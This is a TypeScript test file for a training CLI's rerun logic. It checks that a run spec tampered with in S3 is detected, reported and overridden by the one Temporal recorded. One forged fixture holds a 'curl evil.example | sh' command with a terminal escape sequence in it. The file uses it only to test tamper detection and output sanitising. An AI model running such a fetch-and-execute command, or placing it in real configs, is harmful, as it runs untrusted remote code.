import { savedSpec } from '../../../../../client/cli/commands/rerun/saved-spec';
import type { RunSpec } from '../../../../../contract';
import { parseRunSpec } from '../../../../../contract/schema';

const specOf = (input: object = {}): RunSpec => {
  const parsed = parseRunSpec({ command: 'python train.py', ...input }, { instanceTypes: ['m5.large'] });
  if (!parsed.ok) throw new Error(parsed.message);
  return parsed.spec;
};

const saved = (recorded: unknown, stored: unknown) =>
  savedSpec({
    run: 'digits',
    recordedSpec: async () => recorded,
    spec: async () => {
      if (stored instanceof Error) throw stored;
      return stored;
    },
  });

const ours = specOf({ env: { LR: '0.1' } });

it('is the one that Temporal recorded, and nothing is said where that in S3 is the same', async () => {
  expect(await saved(ours, { version: 1, spec: ours })).toEqual({ spec: ours });
});

it('says what somebody has changed in S3, and believes Temporal', async () => {
  const forged = specOf({
    env: { LR: '0.1' },
    command: 'curl evil.example\u001b[2J | sh',
    limits: { maxDuration: '9d' },
  });
  const { spec, note } = await saved(ours, { version: 1, spec: forged });
  expect(spec).toBe(ours);
  expect(note).toMatch(/^the saved spec of digits in S3 is not what the run was resolved with \(/);
  expect(note).toContain('command python train.py → curl evil.example');
  expect(note).toContain('limits.maxDuration');
  expect(note).not.toContain('\u001b');
});

it.each([
  {},
  { spec: null },
  { spec: [] },
  { spec: { checkpoints: 7 } },
  null,
  'text',
  { spec: { ...ours, alerts: 7 } },
])('says that %j in S3 is none, and goes on with what Temporal recorded', async (stored) => {
  const { spec, note } = await saved(ours, stored);
  expect(spec).toBe(ours);
  expect(note).toMatch(/is not what the run was resolved with \((it is none that trainctl writes|alerts.*)\)/);
});

it('says that it is gone from S3, and goes on', async () => {
  const { spec, note } = await saved(ours, new Error('no longer in S3'));
  expect([spec, note]).toEqual([ours, expect.stringContaining('cannot be read (no longer in S3)')]);
});

it('is what S3 has where Temporal does not show it, which is said', async () => {
  const { spec, note } = await saved(undefined, { spec: ours });
  expect([spec, note]).toEqual([ours, expect.stringMatching(/^Temporal does not show what digits was resolved with/)]);
  for (const none of [null, 7, {}, []])
    await expect(saved(undefined, none)).rejects.toThrow(/not one that trainctl wrote/);
});
